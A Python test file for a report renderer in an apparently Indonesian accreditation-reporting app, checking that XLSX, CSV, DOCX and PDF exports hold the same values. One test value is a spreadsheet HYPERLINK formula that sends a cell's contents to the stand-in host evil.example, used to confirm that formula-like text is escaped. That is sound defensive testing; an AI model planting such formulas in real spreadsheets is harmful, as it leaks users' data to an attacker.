"""Every format holds the same values: a report built by hand, written in each format and read back."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import docx
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from simkerma.reports.framework import Column, Kind, Report, Table
from simkerma.reports.renderers import FORMATS, get_format, render
from simkerma.reports.renderers.xlsx import HEADER_ROW, sheet_title

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")'


def _partners(rows=None) -> Table:
    return Table(
        key="Tabel 1-1",
        title="Kerjasama Pendidikan",
        columns=[
            Column("partner", "Lembaga Mitra", width=30),
            Column("intl", "Internasional", Kind.TICK, group="Tingkat"),
            Column("natl", "Nasional", Kind.TICK, group="Tingkat"),
            Column("local", "Lokal", Kind.TICK, group="Tingkat"),
            Column("amount", "Dana (Rp)", Kind.DECIMAL),
            Column("start", "Mulai", Kind.DATE),
            Column("count", "Jumlah", Kind.INT),
        ],
        rows=iter(
            rows
            if rows is not None
            else [
                ["PT Maju Jaya", True, False, False, Decimal("1250000.5"), dt.date(2026, 3, 4), 3],
                [FORMULA, False, True, False, Decimal("10"), dt.date(2025, 1, 31), -1],
                ["+62 812 3456", False, False, True, None, None, 0],
                ["@x", False, False, False, Decimal("0"), None, 7],
                ["-1", False, False, False, None, None, 2],
            ]
        ),
        footer=[["Jumlah", 1, 1, 1, Decimal("1250010.5"), None, 11]],
        notes=["Catatan tabel"],
        numbered=True,
    )


def _outputs() -> Table:
    return Table(
        key="Tabel 1-2",
        title="Luaran",
        columns=[Column("title", "Judul"), Column("share", "Persentase", Kind.PERCENT)],
        rows=iter([["Buku ajar", Decimal("66.67")]]),
    )


def _report(**overrides) -> Report:
    values = dict(
        title="LKPS IAPS 4.0",
        subtitle="D4 Teknik Informatika, TS 2026",
        tables=[_partners(), _outputs()],
        exporter="test",
        verified=False,
        summary=[("Jumlah kerja sama", 5), ("Skor", Decimal("3.50"))],
        notices=["Data per 1 Desember"],
    )
    values.update(overrides)
    return Report(**values)


def _write(report: Report, fmt: str) -> bytes:
    output = io.BytesIO()
    render(report, fmt, output)
    return output.getvalue()


def test_formats_know_their_content_types():
    assert set(FORMATS) == {"xlsx", "csv", "pdf", "docx"}
    assert get_format("pdf").content_type == "application/pdf"
    assert get_format("exe") is None


def test_xlsx_holds_every_value_cell_by_cell():
    book = load_workbook(io.BytesIO(_write(_report(), "xlsx")))
    assert book.sheetnames == ["Ringkasan", "Tabel 1-1", "Tabel 1-2"]
    summary = book["Ringkasan"]
    assert summary["A1"].value == "LKPS IAPS 4.0"
    assert summary["A3"].value == "format belum terverifikasi; Data per 1 Desember"
    assert [summary["A4"].value, summary["B4"].value] == ["Jumlah kerja sama", 5]
    assert summary["B5"].value == 3.5
    sheet = book["Tabel 1-1"]
    assert sheet["A1"].value == "Tabel 1-1. Kerjasama Pendidikan"
    assert sheet["A2"].value == "D4 Teknik Informatika, TS 2026"
    assert sheet["A3"].value == "format belum terverifikasi; Data per 1 Desember; Catatan tabel"
    assert [cell.value for cell in sheet[4]][:5] == [None, None, "Tingkat", None, None]
    assert [cell.value for cell in sheet[HEADER_ROW]] == [
        "No", "Lembaga Mitra", "Internasional", "Nasional", "Lokal", "Dana (Rp)", "Mulai", "Jumlah",
    ]  # fmt: skip
    first = [cell.value for cell in sheet[6]]
    assert first == [1, "PT Maju Jaya", "V", None, None, 1250000.5, dt.datetime(2026, 3, 4), 3]
    formula = sheet["B7"]
    assert (formula.value, formula.data_type, formula.quotePrefix) == (FORMULA, "s", True)
    assert sheet["H7"].value == -1 and sheet["H7"].data_type == "n"
    assert (sheet["B8"].value, sheet["B8"].data_type) == ("+62 812 3456", "s")
    assert (sheet["B9"].value, sheet["B9"].data_type, sheet["B9"].quotePrefix) == ("@x", "s", True)
    assert (sheet["B10"].value, sheet["B10"].data_type) == ("-1", "s")
    assert sheet["E8"].value == "V" and sheet["D7"].value == "V"
    assert [cell.value for cell in sheet[11]] == [None, "Jumlah", 1, 1, 1, 1250010.5, None, 11]  # counts, not ticks
    assert sheet.max_row == 11
    assert book["Tabel 1-2"]["B6"].value == 66.67


def test_xlsx_empty_table_has_its_heading_only():
    report = _report(summary=[], tables=[_partners(rows=[])])
    sheet = load_workbook(io.BytesIO(_write(report, "xlsx")))["Tabel 1-1"]
    assert sheet[HEADER_ROW][1].value == "Lembaga Mitra"
    assert sheet.max_row == HEADER_ROW + 1  # the footer only


def test_xlsx_sheet_names_are_unique_and_short():
    long_key = "Tabel 3-1 Kerjasama yang sangat panjang sekali namanya"
    tables = [
        Table(key=long_key, title="A", columns=[Column("a", "A")], rows=[["1"]]),
        Table(key=long_key, title="B", columns=[Column("a", "A")], rows=[["2"]]),
        Table(key="Tabel/4:1", title="C", columns=[Column("a", "A")], rows=[["3"]]),
        Table(key="ringkasan", title="D", columns=[Column("a", "A")], rows=[["4"]]),
    ]
    book = load_workbook(io.BytesIO(_write(_report(tables=tables), "xlsx")))
    assert book.sheetnames == [
        "Ringkasan", long_key[:31], long_key[:27] + " (2)", "Tabel-4-1", "ringkasan (2)",
    ]  # fmt: skip
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert book[long_key[:27] + " (2)"]["A6"].value == "2"
    assert sheet_title("", set()) == "Tabel"


def test_csv_has_bom_and_quotes_formula_like_text():
    content = _write(_report(), "csv")
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == ["Jumlah kerja sama", "5"]
    assert rows[1] == ["Skor", "3.50"]
    assert rows[2] == []
    assert rows[3] == ["Tabel 1-1. Kerjasama Pendidikan"]
    assert rows[4][:3] == ["No", "Lembaga Mitra", "Internasional"]
    assert rows[5][1:4] == ["PT Maju Jaya", "V", ""]
    assert rows[6][1] == "'" + FORMULA
    assert rows[6][7] == "-1"  # the number -1 is a number; the text "-1" below is guarded
    assert rows[7][1] == "'+62 812 3456"
    assert rows[8][1] == "'@x"
    assert rows[9][1] == "'-1"
    assert rows[10][1:6] == ["Jumlah", "1", "1", "1", "1.250.010,50"]  # counts under the ticks
    assert rows[12] == ["Tabel 1-2. Luaran"]
    assert rows[14] == ["Buku ajar", "66,7%"]  # rounded, not cut


def test_docx_holds_the_tables_with_merged_group_heading():
    document = docx.Document(io.BytesIO(_write(_report(), "docx")))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert "format belum terverifikasi" in text and "Data per 1 Desember" in text
    assert "Tabel 1-1. Kerjasama Pendidikan" in text and "Catatan tabel" in text
    section = document.sections[0]
    assert section.page_width > section.page_height
    summary, partners, outputs = document.tables
    assert [cell.text for cell in summary.rows[0].cells] == ["Jumlah kerja sama", "5"]
    assert [cell.text for cell in summary.rows[1].cells] == ["Skor", "3,50"]
    top = [cell.text for cell in partners.rows[0].cells]
    assert top == ["No", "Lembaga Mitra", "Tingkat", "Tingkat", "Tingkat", "Dana (Rp)", "Mulai", "Jumlah"]
    assert partners.rows[0].cells[2]._tc is partners.rows[0].cells[4]._tc  # one merged cell
    assert partners.rows[1].cells[0]._tc is partners.rows[0].cells[0]._tc  # "No" spans both rows
    assert [cell.text for cell in partners.rows[1].cells][2:5] == ["Internasional", "Nasional", "Lokal"]
    assert all(row._tr.trPr.find("{*}tblHeader") is not None for row in partners.rows[:2])
    assert [cell.text for cell in partners.rows[2].cells][:4] == ["1", "PT Maju Jaya", "V", ""]
    assert partners.rows[3].cells[1].text == FORMULA
    assert partners.rows[3].cells[7].text == "-1"
    assert partners.rows[6].cells[1].text == "-1"
    assert [cell.text for cell in partners.rows[7].cells][1:6] == ["Jumlah", "1", "1", "1", "1.250.010,50"]
    assert len(partners.rows) == 8
    assert outputs.rows[1].cells[0].text == "Buku ajar"


def test_pdf_shows_headings_values_and_the_unverified_label():
    reader = PdfReader(io.BytesIO(_write(_report(), "pdf")))
    text = " ".join(page.extract_text() for page in reader.pages)
    for expected in (
        "LKPS IAPS 4.0",
        "format belum terverifikasi",
        "Jumlah kerja sama",
        "Tabel 1-1. Kerjasama Pendidikan",
        "Tingkat",
        "Internasional",
        "Lembaga Mitra",
        "PT Maju Jaya",
        "+62 812 3456",
        "HYPERLINK",
        "Buku ajar",
        "Catatan tabel",
    ):
        assert expected in text, expected
    page = reader.pages[0]
    assert page.mediabox.width > page.mediabox.height  # landscape


def test_verified_report_has_no_unverified_label():
    reader = PdfReader(io.BytesIO(_write(_report(verified=True, notices=[]), "pdf")))
    assert "belum terverifikasi" not in " ".join(page.extract_text() for page in reader.pages)


@pytest.mark.parametrize("fmt", ["pdf", "docx"])
def test_page_formats_cut_a_long_table_and_say_so(settings, fmt):
    settings.SIMKERMA_REPORT_PDF_MAX_ROWS = 3
    consumed = []

    def rows():
        for number in range(10):
            consumed.append(number)
            yield [f"Mitra {number}", False, False, False, None, None, number]

    report = _report(tables=[_partners(rows=rows())], summary=[])
    content = _write(report, fmt)
    if fmt == "pdf":
        text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
        assert "Mitra 2" in text and "Mitra 3" not in text
    else:
        document = docx.Document(io.BytesIO(content))
        text = "\n".join(paragraph.text for paragraph in document.paragraphs)
        assert len(document.tables[0].rows) == 2 + 3 + 1  # headings, three rows, footer
    assert "… 7 baris lagi: unduh XLSX untuk tabel lengkap" in text
    assert consumed == list(range(10))
